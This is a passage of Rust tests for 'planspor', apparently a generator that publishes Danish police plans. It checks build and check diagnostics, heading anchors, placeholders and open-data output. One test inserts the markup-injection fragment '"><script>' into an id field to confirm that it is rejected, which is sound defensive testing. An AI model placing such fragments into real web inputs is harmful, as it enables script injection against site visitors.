        e.help.as_deref(),
        Some("rename it to `handleplan-2025-2026.md`")
    );
}

#[test]
fn local_priorities_in_a_handleplan_are_located_at_their_table() {
    let d = mini("lp-in-handleplan");
    edit(
        d.path(),
        BY_PLAN,
        "[[meetings]]",
        "[[local_priorities]]\nkommune = \"by\"\nitems = [\"x\"]\n\n[[meetings]]",
    );
    let diags = build_fails(d.path());
    let e = find(
        &diags,
        "local_priorities belong in a district's samarbejdsplan",
    );
    assert_at_col(
        e,
        BY_PLAN,
        line_of(d.path(), BY_PLAN, "[[local_priorities]]"),
        1,
    );
}

#[test]
fn alias_under_two_ids_is_located_at_the_alias() {
    let d = mini("alias-twice");
    let f = "content/indsatsomraader/vold-i-naere-relationer.md";
    put(
        d.path(),
        f,
        "+++\ntitle = \"Vold i nære relationer\"\naliases = [\"Partnervold\", \"Indbrud\"]\n+++\n",
    );
    let diags = build_fails(d.path());
    let e = find(
        &diags,
        "title `Indbrud` is also a title or alias of `indbrud`",
    );
    assert_at_col(e, f, 3, col_of(d.path(), f, "Indbrud\""));
}

#[test]
fn dates_outside_1990_to_2100_are_refused() {
    let d = mini("date-range");
    edit(
        d.path(),
        BY_PLAN,
        "title = \"Handleplan 2025\"",
        "title = \"Handleplan 2025\"\napproved = 0000-01-01",
    );
    edit(d.path(), BY_PLAN, "date = 2025-03-06", "date = 2250-03-06");
    let diags = build_fails(d.path());
    let e = find(&diags, "impossible date 0000-01-01 in `approved`");
    assert_at(e, BY_PLAN, line_of(d.path(), BY_PLAN, "approved ="));
    let e = find(&diags, "impossible date 2250-03-06 in `date`");
    assert_at_col(e, BY_PLAN, line_of(d.path(), BY_PLAN, "2250-03-06"), 8);
}

// Heading attributes: fixed in build.rs, catalogued here.

#[test]
fn id_list_with_spaces_after_commas_binds_every_id() {
    let d = mini("id-list-spaces");
    edit(
        d.path(),
        BY_PLAN,
        "### Indbrud {indsats=indbrud}",
        // Three ids: the middle one ends in a comma too.
        "### Indbrud og nettet {indsats=indbrud, tryghed-paa-nettet, vold-i-naere-relationer}",
    );
    edit(
        d.path(),
        BY_PLAN,
        "### Tryghed og sikkerhed på nettet",
        "### Andet {indsats=-}",
    );
    let out = build_ok(d.path());
    for id in ["tryghed-paa-nettet", "vold-i-naere-relationer"] {
        let html = page(&out, &format!("indsatsomraader/{id}/"));
        assert!(html.contains("kommuner/by/"), "{id} not bound");
    }
    let plan = page(&out, "kommuner/by/handleplan/2025/");
    assert!(
        !plan.contains("{indsats="),
        "the attributes were published as text"
    );
}

#[test]
fn id_listed_twice_warns_at_the_second() {
    let d = mini("id-twice");
    edit(
        d.path(),
        BY_PLAN,
        "{indsats=indbrud}",
        "{indsats=indbrud,indbrud}",
    );
    let diags = planspor::check::check(d.path());
    let w = find(&diags, "`indbrud` is listed twice");
    assert!(!w.is_error());
    assert_at_col(
        w,
        BY_PLAN,
        line_of(d.path(), BY_PLAN, "indbrud,indbrud"),
        col_of(d.path(), BY_PLAN, ",indbrud}") + 1,
    );
}

#[test]
fn markup_in_an_id_is_not_an_id_and_no_file_is_suggested() {
    let d = mini("id-markup");
    edit(
        d.path(),
        BY_PLAN,
        "{indsats=indbrud}",
        "{indsats=\"><script>}",
    );
    let diags = build_fails(d.path());
    let e = find(&diags, "unknown indsatsområde `\"><script>`");
    assert_at_col(
        e,
        BY_PLAN,
        line_of(d.path(), BY_PLAN, "<script>"),
        col_of(d.path(), BY_PLAN, "\"><script>"),
    );
    let help = e.help.as_deref().unwrap_or("");
    assert!(help.contains("an id is"), "{e}");
    assert!(
        !help.contains("<script>.md") && !help.contains("register it"),
        "{e}"
    );
}

// ---------------------------------------------------------------------------------
// A new user's first build (new-user items)
// ---------------------------------------------------------------------------------

#[test]
fn placeholder_publisher_and_base_url_are_warned_by_build_and_check() {
    let d = mini("placeholders");
    put(
        d.path(),
        "planspor.toml",
        "title = \"Test\"\nbase_url = \"https://example.dk/\"\npublisher = \"Planspor\"\n",
    );
    let report = build_to(d.path(), &d.path().join("public"), None).unwrap();
    for diags in [report.warnings, planspor::check::check(d.path())] {
        let w = find(&diags, "base_url `https://example.dk/` is a placeholder");
        assert!(!w.is_error());
        assert_at(w, "planspor.toml", 2);
        let w = find(&diags, "publisher is still the placeholder");
        assert_at(w, "planspor.toml", 3);
    }
    // Real values: no warning.
    put(
        d.path(),
        "planspor.toml",
        "title = \"Test\"\nbase_url = \"https://www.politi.dk/planer/\"\npublisher = \"Nordjyllands Politi\"\n",
    );
    let diags = planspor::check::check(d.path());
    assert!(!shown(&diags).contains("placeholder"), "{}", shown(&diags));
}

#[test]
fn readme_command_table_is_one_table() {
    let readme = std::fs::read_to_string(repo().join("README.md")).unwrap();
    let start = readme.find("| command | what it does |").unwrap();
    let rows: Vec<&str> = readme[start..]
        .lines()
        .take_while(|l| l.starts_with('|'))
        .collect();
    for cmd in ["build", "check", "serve", "gen-corpus"] {
        assert!(
            rows.iter()
                .any(|r| r.starts_with(&format!("| `planspor {cmd}"))),
            "`planspor {cmd}` is not in the command table"
        );
    }
}

/// A plan file with front matter only (a placeholder committed early) published every
/// indsatsområde of the issuer's previous plan as "udgået", silently: build and check
/// now warn, located after the front matter.
#[test]
fn a_plan_that_binds_nothing_is_warned_by_build_and_check() {
    let d = mini("binds-nothing");
    let next = "content/kredse/nord/kommuner/by/handleplan-2026.md";
    put(
        d.path(),
        next,
        "+++\nkind = \"handleplan\"\nyear = 2026\ntitle = \"Handleplan 2026\"\n+++\n",
    );
    let report = build_to(d.path(), &d.path().join("public"), None).unwrap();
    for diags in [report.warnings, planspor::check::check(d.path())] {
        let w = find(&diags, "the plan has no text after its front matter");
        assert!(!w.is_error());
        assert_at(w, next, 5);
        assert!(w.help.as_deref().unwrap_or("").contains("udgået"), "{w}");
    }
    // Text under headings that bind nothing: the same consequence, said so.
    put(
        d.path(),
        next,
        "+++\nkind = \"handleplan\"\nyear = 2026\ntitle = \"Handleplan 2026\"\n+++\n\n## Noget helt andet\n\nTekst.\n",
    );
    let diags = planspor::check::check(d.path());
    let w = find(
        &diags,
        "no section of the plan is bound to an indsatsområde",
    );
    assert_at(w, next, 5);
    // The plans the mini site starts with bind their indsatsområder: no such warning.
    std::fs::remove_file(d.path().join(next)).unwrap();
    let diags = planspor::check::check(d.path());
    assert!(
        !shown(&diags).contains("bound to an indsatsområde"),
        "{}",
        shown(&diags)
    );
}

/// `{#anchor}` after a heading (Pandoc's and Hugo's syntax) gives the section that
/// anchor instead of being published as heading text; the title without it still binds
/// automatically. Two headings with one anchor, or a malformed one, are errors.
#[test]
fn a_headings_own_anchor_is_its_anchor_not_its_text() {
    let d = mini("own-anchor");
    let text = KREDS_PLAN_TEXT
        .replace(
            "## 1. Indsatsområder {indsatser}",
            "## 1. Indsatsområder {indsatser #omraader}",
        )
        .replace("### Indbrud\n", "### Indbrud {#indbrud-i-nord}\n");
    put(d.path(), KREDS_PLAN, &text);
    let out = d.path().join("public");
    build_to(d.path(), &out, None).unwrap_or_else(|e| panic!("{}", e.render(false)));
    let html = page(&out, "/kredse/nord/samarbejdsplan/2025/");
    assert!(html.contains("id=\"indbrud-i-nord\""), "{html}");
    assert!(html.contains("id=\"omraader\""), "{html}");
    assert!(!html.contains("{#"), "an anchor published as text");
    // Still bound by its title, so its history links to the section by that anchor.
    let ind = page(&out, "/indsatsomraader/indbrud/kredse/nord/");
    assert!(ind.contains("samarbejdsplan/2025/#indbrud-i-nord"), "{ind}");

    put(
        d.path(),
        KREDS_PLAN,
        &text.replace(
            "### Vold i nære relationer",
            "### Vold i nære relationer {#indbrud-i-nord}",
        ),
    );
    let diags = build_fails(d.path());
    let e = find(
        &diags,
        "another heading of the plan has the anchor `#indbrud-i-nord`",
    );
    assert_at(e, KREDS_PLAN, 13);

    put(
        d.path(),
        KREDS_PLAN,
        &text.replace("{#indbrud-i-nord}", "{#indbrud!}"),
    );
    let diags = build_fails(d.path());
    let e = find(&diags, "cannot read the heading attributes `{#indbrud!}`");
    assert!(e.help.as_deref().unwrap_or("").contains("{#anchor}"), "{e}");
    // A title's `-2` and an anchor of its own cannot meet: both orders are caught.
    let notes = "\n## Noter\n\nA.\n\n## Noter\n\nB.\n\n## Bilag {#noter-2}\n\nC.\n";
    put(d.path(), KREDS_PLAN, &format!("{text}{notes}"));
    let diags = build_fails(d.path());
    find(
        &diags,
        "another heading of the plan has the anchor `#noter-2`",
    );
    let first = "\n## Bilag {#noter-2}\n\nC.\n\n## Noter\n\nA.\n\n## Noter\n\nB.\n";
    put(d.path(), KREDS_PLAN, &format!("{text}{first}"));
    build_to(d.path(), &out, None).unwrap_or_else(|e| panic!("{}", e.render(false)));
    let html = page(&out, "/kredse/nord/samarbejdsplan/2025/");
    assert_eq!(html.matches("id=\"noter-2\"").count(), 1, "{html}");
    assert!(html.contains("id=\"noter-3\""), "{html}");
    put(
        d.path(),
        KREDS_PLAN,
        &text.replace("{#indbrud-i-nord}", "{#indbrud!}"),
    );
    let diags = build_fails(d.path());
    let e = find(&diags, "cannot read the heading attributes `{#indbrud!}`");
    assert_at(e, KREDS_PLAN, 9);
    assert!(e.help.as_deref().unwrap_or("").contains("{#anchor}"), "{e}");
}

/// A section titled like a part of the plan's page ("Indhold", "Fakta") took that
/// part's id: two elements with one id, and the skip link and the contents link reached
/// the section. Sections get `-2`; a heading's own `{#fakta}` is an error.
#[test]
fn a_section_never_takes_an_id_of_the_plans_page() {
    let d = mini("page-ids");
    let extra = "\n## Indhold\n\nA.\n\n## Fakta\n\nB.\n\n## Statistik 1\n\nC.\n";
    put(d.path(), KREDS_PLAN, &format!("{KREDS_PLAN_TEXT}{extra}"));
    let out = d.path().join("public");
    build_to(d.path(), &out, None).unwrap_or_else(|e| panic!("{}", e.render(false)));
    let html = page(&out, "/kredse/nord/samarbejdsplan/2025/");
    let mut ids: Vec<&str> = html
        .split(" id=\"")
        .skip(1)
        .filter_map(|s| s.split('"').next())
        .collect();
    assert!(
        ids.contains(&"indhold-2") && ids.contains(&"fakta-2"),
        "{ids:?}"
    );
    assert!(ids.contains(&"statistik-1-2"), "{ids:?}");
    let n = ids.len();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), n, "an id twice on the page");

    let own = format!("{KREDS_PLAN_TEXT}\n## Nøgletal {{#fakta}}\n\nD.\n");
    put(d.path(), KREDS_PLAN, &own);
    let diags = build_fails(d.path());
    let e = find(&diags, "the plan's page uses the anchor `#fakta` itself");
    assert_at(e, KREDS_PLAN, line_of(d.path(), KREDS_PLAN, "{#fakta}"));
}

/// A title written where an id belongs (`{indsats=Vold i nære relationer}`) is one error
/// naming the id to write; it was "unknown heading attribute `i`", `nære`, ….
#[test]
fn a_title_where_an_id_belongs_gets_the_id() {
    let d = mini("title-as-id");
    edit(
        d.path(),
        KREDS_PLAN,
        "### Vold i nære relationer\n",
        "### Vold {indsats=Vold i nære relationer indsatser}\n",
    );
    let diags = build_fails(d.path());
    assert_eq!(diags.error_count(), 1, "{}", diags.render(false));
    let e = find(
        &diags,
        "`indsats=Vold i nære relationer` is a title, not an id",
    );
    assert_eq!(
        e.help.as_deref(),
        Some("ids are the registry's file names, lower case without spaces: `indsats=vold-i-naere-relationer`")
    );
    assert_at(e, KREDS_PLAN, line_of(d.path(), KREDS_PLAN, "### Vold {"));
}

/// Front matter written as a Dane writes it: unquoted text, a day-month-year date.
#[test]
fn unquoted_text_and_danish_dates_get_the_line_to_write() {
    let d = mini("toml-words");
    edit(d.path(), BY_PLAN, "date = 2025-03-06", "date = 06-03-2025");
    let diags = build_fails(d.path());
    let e = find(&diags, "invalid date");
    assert_eq!(
        e.help.as_deref(),
        Some("dates are written year-month-day: 2025-03-06")
    );
    let d = mini("toml-quotes");
    edit(
        d.path(),
        BY_PLAN,
        "title = \"Handleplan 2025\"",
        "title = Handleplan 2025",
    );
    let diags = build_fails(d.path());
    let e = find(&diags, "text must be in quotes");
    assert_eq!(e.help.as_deref(), Some("write it as \"Handleplan 2025\""));
}

/// One run reports every problem of a file: a missing key does not hide an unknown one,
/// and a heading attribute that cannot be read does not hide the front matter's.
#[test]
fn one_run_reports_a_files_front_matter_and_heading_problems_together() {
    let d = mini("all-problems");
    let title = "title = \"Handleplan 2025\"";
    edit(
        d.path(),
        BY_PLAN,
        title,
        &format!("{title}\nsummery = \"x\""),
    );
    edit(d.path(), BY_PLAN, "date = 2025-03-06\n", "");
    edit(
        d.path(),
        BY_PLAN,
        "### Indbrud {indsats=indbrud}",
        "### Indbrud {indsats = indbrud}",
    );
    let diags = build_fails(d.path());
    assert_at(find(&diags, "unknown key `summery`"), BY_PLAN, 5);
    find(&diags, "missing required key `date`");
    assert_at(
        find(&diags, "cannot read the heading attributes"),
        BY_PLAN,
        19,
    );
}

/// An indsatsområde an umbrella named as a sub-area (`omfatter=`), dropped in the next
/// plan: its row in the open data points to the umbrella's section in the previous plan,
/// where it stood, as for any dropped indsatsområde (the columns were empty).
#[test]
fn a_dropped_sub_area_points_to_the_umbrella_it_stood_under() {
    let d = mini("dropped-sub-area");
    edit(
        d.path(),
        KREDS_PLAN,
        "### Vold i nære relationer",
        "### Vold i nære relationer {indsats=vold-i-naere-relationer omfatter=tryghed-paa-nettet}",
    );
    put(
        d.path(),
        "content/kredse/nord/samarbejdsplan-2026.md",
        &KREDS_PLAN_TEXT.replace("2025", "2026"),
    );
    let out = d.path().join("public");
    build_to(d.path(), &out, None).unwrap_or_else(|e| panic!("{}", e.render(false)));
    let csv = std::fs::read_to_string(out.join("data/status.csv")).unwrap();
    let row = csv
        .lines()
        .find(|l| {
            l.starts_with("tryghed-paa-nettet,")
                && l.contains(",kreds,nord,nord,samarbejdsplan,2026,")
        })
        .unwrap_or_else(|| panic!("{csv}"));
    assert!(row.contains(",udgået,"), "{row}");
    assert!(
        row.contains(",vold-i-naere-relationer,https://example.dk/kredse/nord/samarbejdsplan/2025/#vold-i-naere-relationer,"),
        "{row}"
    );
}

/// A heading in an indsatsområde chapter reworded past automatic binding leaves its
/// indsatsområde out of the plan ("udgået" if the plan before had it): `build` warns, as
/// `check` does, not only `check`.
#[test]
fn build_warns_about_a_heading_in_the_chapter_that_binds_nothing() {
    let d = mini("build-unbound");
    edit(
        d.path(),
        BY_PLAN,
        "### Tryghed og sikkerhed på nettet",
        "### Tryghed og sikkerhed på nettet 🙂 – «ældre»!?",
    );
    let report = build_to(d.path(), &d.path().join("public"), None)
        .unwrap_or_else(|e| panic!("{}", e.render(false)));
    let w = find(&report.warnings, "binds no indsatsområde");
    assert!(!w.is_error());
    assert_at(w, BY_PLAN, line_of(d.path(), BY_PLAN, "### Tryghed"));

    // Two registered titles joined by "samt" or "og" (a merged section whose attribute
    // was lost in a Word round trip): the help gives the line that binds both.
    for sep in ["samt", "og"] {
        let d = mini(&format!("build-merged-{sep}"));
        edit(
            d.path(),
            KREDS_PLAN,
            "### Indbrud\n",
            &format!("### Indbrud {sep} vold i nære relationer\n"),
        );
        edit(
            d.path(),
            KREDS_PLAN,
            "### Vold i nære relationer\n",
            "### Andet\n",
        );
        let report = build_to(d.path(), &d.path().join("public"), None)
            .unwrap_or_else(|e| panic!("{}", e.render(false)));
        let w = find(&report.warnings, "`Indbrud");
        let help = w.help.as_deref().unwrap_or("");
        assert!(
            help.contains("bind them all with `{indsats=indbrud,vold-i-naere-relationer}`"),
            "{w}"
        );
    }
}

#[test]
fn an_unknown_related_id_is_an_error_at_it() {
    let d = mini("related-unknown");
    put(
        d.path(),
        "content/indsatsomraader/svindel-mod-aeldre.md",
        "+++\ntitle = \"Svindel mod ældre\"\nrelated = [\n  \"indbrud\",\n  \"indbrudd\",\n]\n+++\n",
    );
    let diags = planspor::check::check(d.path());
    let e = find(
        &diags,
        "`related` names an unknown indsatsområde `indbrudd`",
    );
    assert_eq!(e.help.as_deref(), Some("did you mean `indbrud`?"));
    assert_at(e, "content/indsatsomraader/svindel-mod-aeldre.md", 5);
    assert_eq!(diags.error_count(), 1, "{}", diags.render(false));
}
